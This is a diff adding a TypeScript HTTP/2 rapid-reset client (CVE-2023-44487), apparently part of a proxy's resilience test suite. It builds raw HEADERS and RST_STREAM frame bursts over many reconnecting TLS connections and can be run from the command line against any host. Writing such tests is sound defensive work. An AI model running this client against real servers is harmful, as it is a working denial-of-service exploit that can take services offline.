@@ -1,0 +1,191 @@
+/**
+ * An HTTP/2 rapid-reset client (CVE-2023-44487) for HBONE tests: raw frames over mutual TLS,
+ * each CONNECT's HEADERS followed at once by its RST_STREAM (CANCEL), in bursts, on several
+ * connections; a connection that is cut is opened again until the time is up. Raw frames,
+ * because Node's own client may drop a HEADERS frame it has not flushed when the stream is
+ * reset, and an attacker does not.
+ *
+ * As a program (prints one JSON line with the counts when done):
+ *   rapid-reset HOST PORT AUTHORITY CERT KEY CA [CONNECTIONS] [SECONDS] [BURST]
+ */
+import { readFileSync } from 'node:fs';
+import { type TLSSocket, connect as tlsConnect } from 'node:tls';
+import { fileURLToPath } from 'node:url';
+
+export interface RapidResetOptions {
+  host: string;
+  port: number;
+  /** The CONNECT target, ip:port. */
+  authority: string;
+  cert: string;
+  key: string;
+  ca: string;
+  connections: number;
+  durationMs: number;
+  /** HEADERS + RST_STREAM pairs written at once, then one event-loop turn. */
+  burst: number;
+}
+
+export interface RapidResetReport {
+  /** TLS connections that completed the handshake. */
+  sessions: number;
+  /** Connection attempts that failed before or during TLS (refused, reset). */
+  refused: number;
+  streamsSent: number;
+  /** Response HEADERS received (streams the server answered). */
+  answered: number;
+  /** GOAWAY frames received, by error code. */
+  goaways: Record<string, number>;
+}
+
+const FRAME_HEADERS = 0x1;
+const FRAME_RST_STREAM = 0x3;
+const FRAME_SETTINGS = 0x4;
+const FRAME_GOAWAY = 0x7;
+const FLAG_END_HEADERS = 0x4;
+const FLAG_ACK = 0x1;
+const CANCEL = 0x8;
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+
+function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(streamId, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** HPACK "literal header field without indexing, new name" (RFC 7541 §6.2.2), short strings. */
+function literal(name: string, value: string): Buffer {
+  return Buffer.concat([
+    Buffer.from([0x00, name.length]),
+    Buffer.from(name),
+    Buffer.from([value.length]),
+    Buffer.from(value),
+  ]);
+}
+
+/** Reads frames off the socket; calls onFrame(type, flags, streamId, payload). */
+function frameReader(onFrame: (type: number, flags: number, id: number, p: Buffer) => void) {
+  let buffered: Buffer = Buffer.alloc(0);
+  return (chunk: Buffer) => {
+    buffered = buffered.length === 0 ? chunk : Buffer.concat([buffered, chunk]);
+    while (buffered.length >= 9) {
+      const length = buffered.readUIntBE(0, 3);
+      if (buffered.length < 9 + length) break;
+      const type = buffered[3] ?? 0;
+      const flags = buffered[4] ?? 0;
+      const id = buffered.readUInt32BE(5) & 0x7fff_ffff;
+      onFrame(type, flags, id, buffered.subarray(9, 9 + length));
+      buffered = buffered.subarray(9 + length);
+    }
+  };
+}
+
+export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport> {
+  const report: RapidResetReport = {
+    sessions: 0,
+    refused: 0,
+    streamsSent: 0,
+    answered: 0,
+    goaways: {},
+  };
+  const deadline = Date.now() + options.durationMs;
+  const block = Buffer.concat([
+    literal(':method', 'CONNECT'),
+    literal(':authority', options.authority),
+  ]);
+  const rst = Buffer.alloc(4);
+  rst.writeUInt32BE(CANCEL);
+
+  const oneConnection = () =>
+    new Promise<void>((resolve) => {
+      let nextId = 1;
+      let open = true;
+      const socket: TLSSocket = tlsConnect({
+        host: options.host,
+        port: options.port,
+        cert: options.cert,
+        key: options.key,
+        ca: options.ca,
+        ALPNProtocols: ['h2'],
+        minVersion: 'TLSv1.3',
+        rejectUnauthorized: false, // the attacker does not care who answers
+      });
+      let secured = false;
+      const done = () => {
+        if (!open) return;
+        open = false;
+        if (!secured) report.refused++;
+        socket.destroy();
+        resolve();
+      };
+      const fire = () => {
+        if (!open || socket.destroyed) return;
+        if (Date.now() >= deadline) {
+          done();
+          return;
+        }
+        const frames: Buffer[] = [];
+        for (let i = 0; i < options.burst && nextId < 0x7fff_ffff; i++) {
+          frames.push(frame(FRAME_HEADERS, FLAG_END_HEADERS, nextId, block));
+          frames.push(frame(FRAME_RST_STREAM, 0, nextId, rst));
+          nextId += 2;
+          report.streamsSent++;
+        }
+        // Write-blocked means the server stopped reading: wait for it rather than buffer.
+        if (socket.write(Buffer.concat(frames))) setImmediate(fire);
+        else socket.once('drain', fire);
+      };
+      socket.on('error', done);
+      socket.once('close', done);
+      socket.setTimeout(Math.max(1, deadline - Date.now()), done);
+      socket.on(
+        'data',
+        frameReader((type, flags, _id, payload) => {
+          if (type === FRAME_SETTINGS && !(flags & FLAG_ACK)) {
+            socket.write(frame(FRAME_SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)));
+          } else if (type === FRAME_HEADERS) {
+            report.answered++;
+          } else if (type === FRAME_GOAWAY && payload.length >= 8) {
+            const code = String(payload.readUInt32BE(4));
+            report.goaways[code] = (report.goaways[code] ?? 0) + 1;
+          }
+        }),
+      );
+      socket.once('secureConnect', () => {
+        secured = true;
+        report.sessions++;
+        socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
+        fire();
+      });
+    });
+
+  const worker = async () => {
+    while (Date.now() < deadline) {
+      await oneConnection();
+      // A cut connection is opened again, not at once: the attacker is persistent, not a
+      // busy loop on this shared machine.
+      if (Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
+    }
+  };
+  return Promise.all(Array.from({ length: options.connections }, worker)).then(() => report);
+}
+
+if (process.argv[1] === fileURLToPath(import.meta.url)) {
+  const [host = '', port = '', authority = '', cert = '', key = '', ca = '', ...rest] =
+    process.argv.slice(2);
+  const [connections = '32', seconds = '10', burst = '50'] = rest;
+  rapidReset({
+    host,
+    port: Number(port),
+    authority,
+    cert: readFileSync(cert, 'utf8'),
+    key: readFileSync(key, 'utf8'),
+    ca: readFileSync(ca, 'utf8'),
+    connections: Number(connections),
+    durationMs: Number(seconds) * 1000,
+    burst: Number(burst),
+  }).then((report) => console.log(JSON.stringify(report)));
+}
